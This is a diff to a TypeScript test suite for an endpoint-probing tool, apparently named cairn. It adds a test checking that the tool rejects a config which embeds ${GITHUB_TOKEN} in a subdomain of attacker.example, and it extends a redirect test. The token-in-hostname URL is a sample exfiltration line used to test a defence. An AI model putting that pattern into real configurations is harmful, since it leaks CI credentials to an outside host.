@@ -88,6 +88,17 @@ describe('probe secrets: only listed names are filled', () => {
     }
   });
 
+  it('refuses the one-line exfiltration of the workflow token through a host name', async () => {
+    const dir = tempDir('cairn-secrets-');
+    writeFiles(dir, { 'components.yml': probeConfig({ api: 'url: https://${GITHUB_TOKEN}.attacker.example/' }) });
+    for (const command of ['check', 'probe']) {
+      const run = await cairn(dir, [command], { GITHUB_TOKEN: SECRET });
+      expect(run.code).toBe(1);
+      expect(run.stdout + run.stderr).toMatch(/components\.yml:11:\d+ error Probe of "api" uses \$\{GITHUB_TOKEN\}, but GITHUB_TOKEN belongs to the CI runner/);
+      expect(leaks(dir, [run.stdout, run.stderr])).toEqual([]);
+    }
+  });
+
   it('percent-encodes a value filled into a URL, so it cannot change the host or the path', async () => {
     const dir = repository({ api: `url: ${capture.url}/ok?key=\${PROBE_KEY}` }, ['PROBE_KEY']);
     const before = capture.seen.length;
@@ -122,19 +133,24 @@ describe('probe secrets: redirects', () => {
     expect(leaks(dir, [run.stdout, run.stderr, human.stdout, human.stderr]).filter((t) => !t.includes('"path":"/to/'))).toEqual([]);
   });
 
-  it('still follows a redirect within the origin, and one to another origin when nothing secret is sent', async () => {
+  it('still follows a redirect within the origin, and one to another origin when nothing secret is sent; max_redirects: 0 follows none', async () => {
     const dir = repository(
       {
         same: probe('/ok', 307),
         open: `url: ${servers.http}/to/302?location=${encodeURIComponent(`${capture.url}/public`)}\nretries: 0`,
+        // Not following redirects at all: the 302 itself is the answer, and nothing is refused.
+        none: `${probe(`${capture.url}/collect`, 302)}\nmax_redirects: 0`,
       },
       ['PROBE_KEY'],
     );
     const before = capture.seen.length;
     const run = await cairn(dir, ['probe', '--json', '--dry-run'], { PROBE_KEY: SECRET });
-    const byId = Object.fromEntries((JSON.parse(run.stdout) as { results: Array<{ component: string; status: string }> }).results.map((r) => [r.component, r]));
+    const byId = Object.fromEntries(
+      (JSON.parse(run.stdout) as { results: Array<{ component: string; status: string; code?: number }> }).results.map((r) => [r.component, r]),
+    );
     expect(byId.same).toMatchObject({ status: 'up' });
     expect(byId.open).toMatchObject({ status: 'up' });
+    expect(byId.none).toMatchObject({ status: 'up', code: 302 });
     expect(capture.seen.slice(before).map((s) => s.url)).toEqual(['/public']);
   });
 
